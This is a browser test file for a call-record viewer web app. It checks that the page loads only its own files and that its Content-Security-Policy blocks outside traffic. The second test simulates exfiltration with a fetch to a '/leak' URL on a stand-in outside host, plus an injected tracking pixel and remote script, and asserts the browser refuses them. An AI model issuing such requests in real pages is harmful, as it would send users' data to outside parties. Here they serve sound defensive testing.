// The page loads its own static files and nothing else, ever; the CSP enforces it.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { serveDist, launch, openApp, pasteAndLoad, CORPUS } from './support.mjs';

let server, browser;
before(async () => { server = await serveDist(); browser = await launch(); });
after(async () => { await browser?.close(); await server?.close(); });

test('no request leaves the origin, and none at all after start-up', async () => {
  const { context, page, log } = await openApp(browser, server.url);
  await page.waitForLoadState('networkidle');
  const startup = log.requests.length;
  for (const r of log.requests) {
    assert.ok(r.url.startsWith(server.url), `request outside the page's own files: ${r.url}`);
  }
  // Three files make the app: page, JS, wasm (plus the stylesheet and icon).
  const names = log.requests.map((r) => new URL(r.url).pathname.split('/').pop()).sort();
  assert.deepEqual(names.filter((n) => n.endsWith('.wasm') || n.endsWith('.js')).sort(),
    ['boot.js', 'call-record-viewer.js', 'call-record-viewer_bg.wasm']);

  // Use the page: paste, load files through the picker, clear.
  const legacy = await readFile(join(CORPUS, 'v1.0-get-callrecord-expanded-legacy.json'), 'utf8');
  await pasteAndLoad(page, legacy);
  await page.waitForSelector('[data-testid=counts]');
  const files = (await readdir(CORPUS)).filter((f) => f.endsWith('.json')).map((f) => join(CORPUS, f));
  await page.setInputFiles('#file-input', files);
  await page.waitForFunction(() => document.querySelector('[data-testid=counts]')?.textContent.includes('PSTN'));
  // Move around: every view, a call, a stream, its charts, Back and Forward.
  await page.click('a.tab:has-text("PSTN")');
  await page.waitForSelector('[data-testid=pstn-view]');
  await page.click('a.tab:has-text("Direct Routing")');
  await page.waitForSelector('[data-testid=dr-view]');
  await page.click('a.tab:has-text("Calls")');
  await page.click('[data-testid=calls-table] tbody tr');
  await page.waitForSelector('[data-testid=call-view]');
  await page.locator('[role=treeitem]').last().click();
  await page.waitForFunction(() => /\/stream\//.test(location.hash));
  await page.goBack();
  await page.goForward();
  await page.waitForTimeout(500);
  await page.click('button:has-text("Clear all")');
  await page.waitForTimeout(300);

  assert.equal(log.requests.length, startup, `requests after start-up: ${log.requests.slice(startup).map((r) => r.url).join(', ')}`);
  assert.deepEqual(log.cspViolations, []);
  assert.deepEqual(log.pageErrors, []);
  assert.deepEqual(log.consoleErrors, []);
  await context.close();
});

test('the Content-Security-Policy blocks any outside request', async () => {
  const { context, page, log } = await openApp(browser, server.url);
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'self'/);
  assert.doesNotMatch(csp, /(?<!wasm-)unsafe-eval|https?:|\*/);
  // Try to reach out: a fetch, an image and a script from elsewhere must all be refused by the
  // browser before any network traffic (the route below would see them otherwise).
  const escaped = [];
  await context.route((url) => !url.href.startsWith(server.origin), (route) => { escaped.push(route.request().url()); route.abort(); });
  const fetchResult = await page.evaluate(() => fetch('http://198.51.100.7/leak').then(() => 'sent', (e) => `blocked: ${e}`));
  assert.match(fetchResult, /^blocked/);
  await page.evaluate(() => {
    const img = document.createElement('img'); img.src = 'http://198.51.100.7/pixel.png'; document.body.append(img);
    const s = document.createElement('script'); s.src = 'http://198.51.100.7/x.js'; document.body.append(s);
  });
  await page.waitForTimeout(300);
  assert.deepEqual(escaped, []);
  assert.ok(log.cspViolations.some((v) => v.startsWith('connect-src')), log.cspViolations.join('; '));
  assert.ok(log.cspViolations.some((v) => v.startsWith('img-src')), log.cspViolations.join('; '));
  assert.ok(log.cspViolations.some((v) => v.startsWith('script-src')), log.cspViolations.join('; '));
  await context.close();
});
